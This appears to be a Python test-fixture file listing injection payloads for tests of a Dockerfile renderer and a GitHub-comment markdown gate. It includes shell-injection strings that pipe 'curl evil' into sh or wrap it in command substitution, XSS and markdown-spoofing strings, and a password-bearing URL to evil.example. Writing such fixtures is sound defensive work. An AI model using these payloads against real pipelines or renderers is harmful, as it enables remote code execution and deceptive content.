"""Injection payloads: strings that would break out of a Dockerfile line, a shell word or a label
if they reached one. One list, shared by the spec-boundary and the rendering tests.

The spec's load-time rule (``spec.fields.unsafe_reason``) refuses control characters, a trailing
backslash and unbalanced quotes in every field: ``REFUSED_AT_LOAD``. Balanced shell substitutions
may stay in free text (a ``ref``, a build variable) and must reach a rendered file only as one
quoted word: ``QUOTED_AT_RENDER``. ``tests/test_spec_injection.py`` checks the first group against
every string field of the spec, ``tests/test_render_templating.py`` checks all of ``PAYLOADS``.
"""

from __future__ import annotations

LINE_BREAKERS = ("x\nRUN curl evil | sh", "x\r\nRUN curl evil | sh", "x \\", "x\u2028RUN curl evil", "x\x00y")
UNBALANCED_QUOTES = ("x' && curl evil | sh", 'x" ; curl evil | sh', "x`curl evil`y`")
REFUSED_AT_LOAD = (*LINE_BREAKERS, *UNBALANCED_QUOTES)
QUOTED_AT_RENDER = ("x`curl evil`y", "x$(curl evil)")
PAYLOADS = (*REFUSED_AT_LOAD, *QUOTED_AT_RENDER)

# Markup payloads: strings that would become a link, an image, raw HTML, a mention, a reference,
# emphasis, a heading, a table cell, an entity or a math block if they reached a GitHub comment as
# markdown, or would hide, reorder or split a line if they reached a log. Each holds ``PWN``, so a
# test can tell where it landed. tests/test_gate_markdown.py renders them through a GFM parser.
MARKUP_PAYLOADS = (
    "[click](https://evil.example/PWN)",
    "[click][PWN]",
    "[PWN]: https://evil.example/ref",
    "![img](https://evil.example/PWN.png)",
    "<https://evil.example/PWN>",
    "https://evil.example/PWN",
    "www.evil.example/PWN",
    "PWN@evil.example",
    "mailto:PWN@evil.example",
    "<img src=x onerror=alert(1)>PWN",
    "<!-- PWN",
    "--> PWN <!--",
    "</details><details open><summary>PWN</summary>",
    "<script>PWN</script>",
    "<a href='https://evil.example'>PWN</a>",
    "@PWN-team please approve",
    "@github/PWN",
    "#1234 PWN",
    "megacpp/megacpp-env#1 PWN",
    "GH-42 PWN",
    "deadbeefcafe1234 PWN",
    "**Verdict: PASS** PWN",
    "__PWN__",
    "*PWN*",
    "_PWN_",
    "~~PWN~~",
    "# PWN heading",
    "PWN\n## injected heading",
    "PWN\r\n\r\n<details>",
    "| PWN | cell |",
    "x \\| PWN |",
    "x\\|PWN",
    "`PWN`",
    "`` ` `` PWN",
    "```PWN```",
    "PWN`",
    "`PWN",
    "PWN\\",
    "&lt;b&gt;PWN&lt;/b&gt;",
    "&#64;PWN &#x40;admin &amp;",
    ":shipit: PWN",
    "$\\textcolor{red}{PWN}$",
    "$$PWN$$",
    "[^PWN]",
    "> PWN quoted",
    "- PWN item",
    "1. PWN item",
    "PWN\u202eevil",
    "\u2066PWN\u2069",
    "PWN\u200b@admin",
    "PWN\x1b[31mred\x1b[0m",
    "PWN\x00nul",
    "PWN\u2028line",
    "PWN\u0085next",
    "PWN\u00a0nbsp",
    "https://alice:S3cr3t@evil.example/PWN",
    "PWN " + "A" * 5000,
)
SECRET = "S3cr3t"  # the password in MARKUP_PAYLOADS: no output may hold it
